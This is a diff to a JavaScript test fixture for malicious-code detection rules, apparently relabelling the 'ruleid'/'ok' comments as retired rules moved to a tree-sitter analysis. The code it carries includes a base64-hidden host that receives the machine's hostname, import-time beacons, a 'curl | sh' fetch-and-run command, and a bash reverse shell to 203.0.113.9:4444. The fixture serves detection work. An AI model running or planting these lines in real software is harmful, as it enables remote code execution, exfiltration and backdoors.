@@ -7,19 +7,19 @@ const cp = require("child_process");
 
 const EDGE = Buffer.from("YjIudGVsZW1ldHJ5LWVkZ2UuZXhhbXBsZS5uZXQ=", "base64").toString();
 
-// ruleid: js-network-at-import-time, js-hidden-destination-decoded-host
+// site of the retired js-network-at-import-time, js-hidden-destination-decoded-host (now the tree-sitter analysis')
 const boot = https.request({ hostname: EDGE, path: "/v1/boot", method: "POST" });
 boot.end(JSON.stringify({ host: os.hostname() }));
 
-// ruleid: js-network-at-import-time
+// site of the retired js-network-at-import-time (now the tree-sitter analysis')
 fetch("https://stats.example.test/ping", { method: "POST" });
-// ruleid: js-network-at-import-time
+// site of the retired js-network-at-import-time (now the tree-sitter analysis')
 require("https").get("https://stats.example.test/hello");
-// ruleid: js-network-at-import-time
+// site of the retired js-network-at-import-time (now the tree-sitter analysis')
 axios.post("https://stats.example.test/hello", { v: 1 });
-// ok: js-network-at-import-time
+// look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
 const api = axios.create({ baseURL: "https://api.example.test", timeout: 5000 });
-// ok: js-network-at-import-time
+// look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
 const cancelled = axios.isCancel(new Error("x"));
 
 async function flush(endpoint, snapshot) {
@@ -41,7 +41,7 @@ async function ok(url, apiKey) {
 
 async function ok2() {
   const base = process.env.API_URL;
-  // ok: js-network-at-import-time
+  // look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
   return fetch(`${base}/health`);
 }
 
@@ -89,15 +89,15 @@ function runTests() {
 }
 
 function install() {
-  // ruleid: js-child-process-network-shell
+  // site of the retired js-child-process-network-shell (now the tree-sitter analysis')
   cp.execSync("curl -fsSL https://x.example/i.sh | sh");
-  // ruleid: js-child-process-network-shell
+  // site of the retired js-child-process-network-shell (now the tree-sitter analysis')
   cp.spawn("bash", ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
-  // ok: js-child-process-network-shell
+  // look-alike of the retired js-child-process-network-shell (now the tree-sitter analysis')
   cp.execSync("git rev-parse HEAD");
 }
 
 function rawIp() {
-  // ruleid: js-raw-ip-destination
+  // site of the retired js-raw-ip-destination (now the tree-sitter analysis')
   return fetch("http://198.51.100.7/collect");
 }
